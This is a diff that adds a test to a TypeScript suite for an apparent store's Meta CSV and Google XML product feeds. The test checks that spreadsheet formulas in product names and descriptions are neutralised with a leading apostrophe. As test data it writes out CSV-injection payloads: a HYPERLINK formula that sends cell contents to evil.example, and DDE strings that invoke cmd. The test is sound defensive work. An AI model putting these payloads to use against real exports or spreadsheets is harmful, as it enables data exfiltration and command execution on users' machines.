@@ -108,6 +108,26 @@ describe('Feeds de produtos: Meta (CSV) e Google (XML)', () => {
     });
   });
 
+  it('when a product’s name or description is a spreadsheet formula, then the Meta feed writes it as text, as the owner’s export does', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Clique")', "@SUM(1+1)*cmd|' /C calc'!A0"];
+    const hostil = await novaLoja(testApp(), {
+      nome_loja: '+Loja @Fórmula',
+      produtos: [
+        { nome: formulas[0]!, preco: 10, descricao: "-2+3+cmd|' /C calc'!A0" },
+        { nome: formulas[1]!, preco: 20, descricao: '+55 11 98888-7777' },
+      ],
+    });
+    const response = await abrir(`/loja/${hostil.slug}/feed/meta.csv`);
+    expect(response.status, response.text).toBe(200);
+    const celulas = (parseCsv(response.text) as string[][]).flat();
+    expect(celulas.filter((celula) => /^[=+\-@\t\r]/.test(celula))).toEqual([]);
+    // An apostrophe first: every spreadsheet reads the cell as text and does not show it.
+    const linhas = await linhasDoMeta(hostil.slug);
+    expect(linhas.map((linha) => linha.title)).toEqual(formulas.map((formula) => `'${formula}`));
+    expect(linhas.map((linha) => linha.description)).toEqual(["'-2+3+cmd|' /C calc'!A0", "'+55 11 98888-7777"]);
+    expect(linhas[0]!.brand).toBe("'+Loja @Fórmula");
+  });
+
   it('when Google reads the XML feed, then it is well-formed RSS with the g: fields, every hostile text escaped', async () => {
     const { canal, itens } = await itensDoGoogle(loja.slug);
     expect(canal.title).toBe('Doces & Cia "da Rua"');
